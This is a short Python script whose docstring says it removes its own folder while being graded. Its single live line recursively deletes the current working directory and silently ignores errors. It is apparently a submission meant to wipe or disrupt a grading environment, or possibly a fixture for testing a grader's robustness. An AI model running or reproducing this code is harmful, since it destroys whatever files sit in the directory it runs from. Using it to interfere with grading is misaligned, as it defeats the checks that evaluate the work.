"""Removes its own folder while it is being graded."""
import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
